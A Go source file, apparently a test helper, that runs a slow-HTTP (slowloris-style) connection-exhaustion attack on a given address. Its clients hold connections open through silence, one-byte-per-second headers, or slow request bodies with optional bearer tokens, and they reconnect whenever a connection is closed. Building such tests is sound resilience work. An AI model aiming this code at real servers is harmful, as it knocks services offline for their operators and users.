package flood

import (
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// attack is a number of clients that open connections and send as little as keeps them open. When a connection is closed, its
// client opens another one.
type attack struct {
	Opened  atomic.Int64 // connections so far
	Open    atomic.Int64 // connections now
	stop    context.CancelFunc
	clients sync.WaitGroup
}

// The ways in which a client is slow.
const (
	silent     = ""                                            // no byte at all
	slowHeader = "POST / HTTP/1.1\r\nHost: x\r\nX-Slow: "      // then one byte of the header's value a second
	slowBody   = "POST / HTTP/1.1\r\nHost: x\r\nAUTHORIZATION" // then one byte of the body a second
)

// The length and the type of a slow body.
const (
	slowBytes = 10_000
	slowType  = "image/jpeg"
)

// start starts clients of an address, each slow in one of these ways. A slow body comes with each of tokens, of which "" is none.
func start(ctx context.Context, address string, clients int, method, query string, tokens ...string) *attack {
	ctx, stop := context.WithCancel(ctx)
	a := &attack{stop: stop}
	for i := range clients {
		text := []string{silent, slowHeader, slowBody}[i%3]
		authorization := ""
		if token := tokens[i/3%len(tokens)]; token != "" {
			authorization = "Authorization: Bearer " + token + "\r\n"
		}
		header := fmt.Sprintf("%sContent-Type: %s\r\nContent-Length: %d\r\n\r\n", authorization, slowType, slowBytes)
		text = strings.Replace(text, "AUTHORIZATION", header, 1)
		text = strings.Replace(text, "POST /", method+" /"+query, 1)
		a.clients.Go(func() { a.client(ctx, address, text) })
	}
	return a
}

// end ends the attack.
func (a *attack) end() {
	a.stop()
	a.clients.Wait()
}

func (a *attack) client(ctx context.Context, address, text string) {
	// The clients do not all start at the same moment.
	for wait := time.Second; ; wait = 5 * time.Second {
		select {
		case <-ctx.Done():
			return
		case <-time.After(rand.N(wait)):
		}
		a.connect(ctx, address, text)
	}
}

// connect keeps a connection open until the server closes it.
func (a *attack) connect(ctx context.Context, address, text string) {
	dialer := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}} // not the person's
	c, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	a.Opened.Add(1)
	a.Open.Add(1)
	defer a.Open.Add(-1)
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if _, err := io.WriteString(c, text); err != nil {
		return
	}
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, c)
	}()
	for tick := time.NewTicker(time.Second); ; {
		select {
		case <-closed:
			tick.Stop()
			return
		case <-tick.C:
			if text != silent {
				_, _ = io.WriteString(c, "x")
			}
		}
	}
}
